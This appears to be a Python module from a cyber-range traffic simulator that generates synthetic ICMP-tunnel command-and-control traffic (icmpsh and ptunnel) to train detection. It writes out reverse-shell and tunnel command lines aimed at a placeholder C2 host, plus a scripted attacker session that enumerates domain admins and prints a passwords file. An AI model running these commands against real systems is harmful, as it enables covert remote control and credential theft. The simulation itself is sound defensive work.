"""Command and control over ICMP echo (icmpsh, ptunnel), MITRE ATT&CK T1095 Non-Application
Layer Protocol.

The implant is the step's source (or, when the source is the environment's attacker, its one
target); the other end is the controller. Every ``interval`` seconds the implant sends an ICMP
echo request and the controller's answer rides in the echo reply, whose data differ from the
request's, which an ordinary ping never does.

* ``tool: icmpsh`` (default): the icmpsh slave on a Windows host (``icmpsh.exe -t C2 -d 500
  -b 64``, identifier 1 like every Windows ping). Idle polls carry no data; the master's replies
  carry the operator's commands (``whoami``, ``ipconfig``, ``net group "Domain Admins" /domain``
  ...) and the following requests carry cmd.exe's output in 64-byte pieces: readable text in
  echo requests of odd sizes, nothing like ping's ``abcdefghijklmnopqrstuvwabcdefghi``.
* ``tool: ptunnel``: ``ptunnel -p C2 -lp 8000 -da C2 -dp 22`` forwarding an SSH session. Every
  packet starts with ptunnel's 28-byte header (magic ``0xd5200880``, destination, state with the
  user/proxy flag, ack, length, sequence, tunnel id), then up to 1,024 bytes of the session: the
  SSH banners and key exchange in clear, then high-entropy ciphertext both ways.

Wireshark shows a long run of ``icmp.type == 8`` / ``icmp.type == 0`` pairs between one internal
host and one external address at a steady period, with varying ``icmp.data_len`` and replies
whose data do not echo the request.
"""
from __future__ import annotations

import struct
from typing import Literal

from pydantic import Field, model_validator

from range.core import Seconds, Strict
from range.traffic import IcmpEcho, StepContext, Technique, technique

ICMPSH_CHUNK = 64  # icmpsh -b: maximal data buffer size
PTUNNEL_CHUNK = 1024  # ptunnel's kDefault_buf_size
PTUNNEL_MAGIC = 0xD5200880
PROXY_START, PROTO_ACK, PROTO_DATA, PROTO_CLOSE = 0, 1, 2, 3
USER_FLAG, PROXY_FLAG = 1 << 30, 1 << 31
_PT_HDR = struct.Struct("!IIIIIIHH")


class Params(Strict):
    tool: Literal["icmpsh", "ptunnel"] = Field(
        default="icmpsh", description="icmpsh reverse shell or ptunnel TCP tunnel"
    )
    duration: Seconds = Field(default=120.0, ge=5, le=7200, description="how long the channel is used")
    interval: Seconds = Field(default=0.5, ge=0.05, le=60, description="seconds between the implant's polls")
    rtt: float = Field(default=0.045, gt=0, le=1, description="round trip to the controller, seconds")

    @model_validator(mode="after")
    def _answered_in_time(self) -> "Params":
        if self.rtt >= self.interval:
            raise ValueError(
                f"rtt {self.rtt:g}s must be shorter than interval {self.interval:g}s: "
                f"the implant waits for each answer before it polls again"
            )
        return self


def chunks(data: bytes, n: int) -> list[bytes]:
    return [data[i : i + n] for i in range(0, len(data), n)]


# ---- icmpsh: a Windows cmd.exe driven over echo replies --------------------------------------


def _session(ctx: StepContext, implant) -> list[tuple[str, str]]:
    """(command, cmd.exe output) pairs of a plausible hands-on-keyboard session."""
    r, names = ctx.rng, ctx.names
    lay = ctx.layout
    dom = ctx.domain.split(".")[0].upper()
    user = names.username()
    ip = implant.ip
    sub = next(s for n, s in lay.subnets.items() if n in implant.ips)
    gw = lay.env.networks[next(iter(implant.ips))].gateway
    gw_ip = lay.hosts[gw].ips[next(iter(implant.ips))] if gw and gw in lay.hosts else str(sub.network_address + 1)
    dns = ctx.dns_server.ip if ctx.dns_server else gw_ip
    mac = implant.mac.upper().replace(":", "-")
    docs = [
        f"{w}_{names.token(4)}.{e}"
        for w, e in [
            ("budget", "xlsx"),
            ("minutes", "docx"),
            ("contracts", "pdf"),
            ("vpn-config", "ovpn"),
            ("passwords", "txt"),
        ]
    ]
    admins = [names.username() for _ in range(3)]
    listing = "".join(
        f"{r.randint(1, 28):02d}/1{r.randint(0, 1)}/2026  {r.randint(8, 17):02d}:{r.randint(0, 59):02d}"
        f"    {r.randint(9000, 900000):>14,} {d}\r\n"
        for d in docs
    )
    return [
        ("whoami", f"{dom.lower()}\\{user}\r\n"),
        ("hostname", f"{implant.hostname}\r\n"),
        (
            "ipconfig",
            "\r\nWindows IP Configuration\r\n\r\n\r\nEthernet adapter Ethernet0:\r\n\r\n"
            f"   Connection-specific DNS Suffix  . : {ctx.domain}\r\n"
            f"   IPv4 Address. . . . . . . . . . . : {ip}\r\n"
            f"   Subnet Mask . . . . . . . . . . . : {sub.netmask}\r\n"
            f"   Default Gateway . . . . . . . . . : {gw_ip}\r\n",
        ),
        ("getmac /fo csv /nh", f'"{mac}","\\Device\\Tcpip_{{{names.token(8).upper()}-{names.token(4).upper()}}}"\r\n'),
        ("nslookup " + ctx.domain, f"Server:  ns1.{ctx.domain}\r\nAddress:  {dns}\r\n\r\nName:    {ctx.domain}\r\n"),
        (
            'net group "Domain Admins" /domain',
            f"The request will be processed at a domain controller for domain {ctx.domain}.\r\n\r\n"
            "Group name     Domain Admins\r\nComment        Designated administrators of the domain\r\n\r\nMembers\r\n\r\n"  # noqa: E501
            "-------------------------------------------------------------------------------\r\n"
            + "".join(f"{a:<25}" for a in admins)
            + "\r\nThe command completed successfully.\r\n",
        ),
        (
            f"dir C:\\Users\\{user}\\Documents",
            f" Volume in drive C has no label.\r\n Volume Serial Number is "
            f"{r.randint(0x1000, 0xFFFF):04X}-{r.randint(0x1000, 0xFFFF):04X}\r\n\r\n"
            f" Directory of C:\\Users\\{user}\\Documents\r\n\r\n{listing}",
        ),
        (
            'tasklist /svc | findstr /i "defend sense"',
            "MsMpEng.exe                   3120 WinDefend\r\nMsSense.exe                   4388 Sense\r\n",
        ),
        (
            f"type C:\\Users\\{user}\\Documents\\{docs[4]}",
            "".join(f"{s}: {names.username()} / {names.token(12)}\r\n" for s in ("vpn", "intranet", "mail")),
        ),
    ]


def _icmpsh(ctx: StepContext, p: Params, implant, c2):
    r = ctx.rng
    prompt = "\r\nC:\\Windows\\system32>"
    banner = (
        f"Microsoft Windows [Version 10.0.19045.{r.choice([3803, 4046, 4170, 4291, 4529])}]\r\n"
        f"(c) Microsoft Corporation. All rights reserved.\r\n{prompt}"
    )
    session = _session(ctx, implant)
    outbox = chunks(banner.encode(), ICMPSH_CHUNK)
    end = ctx.t0 + p.duration - p.rtt
    next_cmd = ctx.t0 + r.uniform(2.0, 6.0)
    payloads: list[tuple[float, bytes]] = []
    replies: list[bytes] = []
    t, prev = ctx.t0, ctx.t0
    while t <= end:
        req = outbox.pop(0) if outbox else b""
        rep = b""
        if not outbox and session and t >= next_cmd:
            cmd, out = session.pop(0)
            rep = cmd.encode() + b"\n"
            outbox = chunks((out + prompt).encode("latin-1"), ICMPSH_CHUNK)
            next_cmd = t + r.uniform(4.0, 15.0)  # the operator reads, thinks, types
        payloads.append((t - prev, req))
        replies.append(rep)
        prev = t
        t += p.interval * r.uniform(0.98, 1.05)
    # Windows ping and IcmpSendEcho: identifier 1
    yield IcmpEcho(t=ctx.t0, client=implant.ip, server=c2.ip, ident=1, payloads=payloads, replies=replies, rtt=p.rtt)


# ---- ptunnel: an SSH session inside echo data -------------------------------------------------


def _kexinit(r, server: bool) -> bytes:
    """An SSH_MSG_KEXINIT packet as OpenSSH sends it (binary packet, clear text before NEWKEYS)."""
    lists = [
        "curve25519-sha256,curve25519-sha256@libssh.org,ecdh-sha2-nistp256,ecdh-sha2-nistp384,"
        "diffie-hellman-group-exchange-sha256,diffie-hellman-group16-sha512,diffie-hellman-group14-sha256,"
        + ("kex-strict-s-v00@openssh.com" if server else "ext-info-c,kex-strict-c-v00@openssh.com"),
        "rsa-sha2-512,rsa-sha2-256,ecdsa-sha2-nistp256,ssh-ed25519",
    ]
    ciphers = (
        "chacha20-poly1305@openssh.com,aes128-ctr,aes192-ctr,aes256-ctr,aes128-gcm@openssh.com,aes256-gcm@openssh.com"
    )
    macs = "umac-64-etm@openssh.com,umac-128-etm@openssh.com,hmac-sha2-256-etm@openssh.com,hmac-sha2-512-etm@openssh.com,hmac-sha1-etm@openssh.com"  # noqa: E501
    comp = "none,zlib@openssh.com"
    fields = lists + [ciphers, ciphers, macs, macs, comp, comp, "", ""]
    body = (
        bytes([20])
        + r.randbytes(16)
        + b"".join(struct.pack("!I", len(f)) + f.encode() for f in fields)
        + b"\0"
        + b"\0\0\0\0"
    )
    pad = 8 - (len(body) + 5) % 8
    pad += 8 if pad < 4 else 0
    return struct.pack("!IB", len(body) + pad + 1, pad) + body + bytes(pad)


def _ssh_streams(r, client_banner: str, server_banner: str) -> list[tuple[str, bytes]]:
    """(side, bytes) of an SSH session, in order: banners, key exchange, then an interactive shell
    and a download as ciphertext (chacha20-poly1305: length + payload + 16-byte tag)."""
    out = [
        ("s", server_banner.encode()),
        ("c", client_banner.encode()),
        ("c", _kexinit(r, False)),
        ("s", _kexinit(r, True)),
        ("c", r.randbytes(48)),  # KEX_ECDH_INIT
        ("s", r.randbytes(r.randint(560, 620))),  # KEX_ECDH_REPLY + NEWKEYS
        ("c", r.randbytes(16)),
        ("c", r.randbytes(r.randint(60, 80))),
        ("s", r.randbytes(r.randint(60, 80))),
        ("c", r.randbytes(r.randint(80, 110))),
        ("s", r.randbytes(r.randint(40, 60))),  # auth
        ("c", r.randbytes(r.randint(110, 130))),
        ("s", r.randbytes(r.randint(600, 900))),
    ]  # shell, motd
    for _ in range(r.randint(20, 40)):  # keystrokes and their echo, a few command outputs
        out.append(("c", r.randbytes(36)))
        out.append(("s", r.randbytes(r.choice([36, 36, 36, 100, 300, 1200]))))
    out.append(("s", r.randbytes(r.randint(30000, 90000))))  # a file pulled through the tunnel
    return out


def _ptunnel(ctx: StepContext, p: Params, implant, c2):
    r = ctx.rng
    id_no = r.getrandbits(16)
    dst_ip = int.from_bytes(bytes(int(x) for x in c2.ip.split(".")), "big")
    streams = _ssh_streams(
        r, "SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3\r\n", "SSH-2.0-OpenSSH_8.9p1 Ubuntu-3ubuntu0.10\r\n"
    )
    up: list[bytes] = []  # client -> proxy chunks
    down: list[bytes] = []  # proxy -> client chunks
    for side, data in streams:
        (up if side == "c" else down).extend(chunks(data, PTUNNEL_CHUNK))
    cseq = sseq = 0
    end = ctx.t0 + p.duration - p.rtt
    payloads: list[tuple[float, bytes]] = []
    replies: list[bytes] = []
    t, prev = ctx.t0, ctx.t0
    first = True
    while t <= end:
        if first:
            state, data = PROXY_START, b""
            first = False
        elif up:
            state, data = PROTO_DATA, up.pop(0)
        else:
            state, data = PROTO_ACK, b""
        req = _PT_HDR.pack(PTUNNEL_MAGIC, dst_ip, 22, state | USER_FLAG, sseq, len(data), cseq, id_no) + data
        cseq = (cseq + 1) & 0xFFFF
        if down and state != PROXY_START:
            sstate, sdata = PROTO_DATA, down.pop(0)
        else:
            sstate, sdata = PROTO_ACK, b""
        rep = _PT_HDR.pack(PTUNNEL_MAGIC, 0, 0, sstate | PROXY_FLAG, cseq - 1 & 0xFFFF, len(sdata), sseq, id_no) + sdata
        sseq = (sseq + 1) & 0xFFFF
        payloads.append((t - prev, req))
        replies.append(rep)
        prev = t
        # ptunnel sends as fast as data flows and polls while idle
        busy = bool(up or down)
        t += (p.interval / 10 if busy else p.interval) * r.uniform(0.95, 1.05)
    yield IcmpEcho(
        t=ctx.t0, client=implant.ip, server=c2.ip, ident=id_no, payloads=payloads, replies=replies, rtt=p.rtt
    )


@technique
class IcmpTunnel(Technique):
    name = "icmp_tunnel"
    attack = "T1095"
    tactic = "command-and-control"
    summary = "icmpsh / ptunnel command and control inside ICMP echo data"
    Params = Params
    min_targets = 1
    max_targets = 1

    def duration(self, p: Params) -> float:
        return p.duration

    def generate(self, ctx: StepContext):
        p: Params = ctx.params
        implant, c2 = ctx.source, ctx.targets[0]
        if implant.role == "attacker":
            implant, c2 = c2, implant
        if p.tool == "icmpsh":
            yield from _icmpsh(ctx, p, implant, c2)
        else:
            yield from _ptunnel(ctx, p, implant, c2)
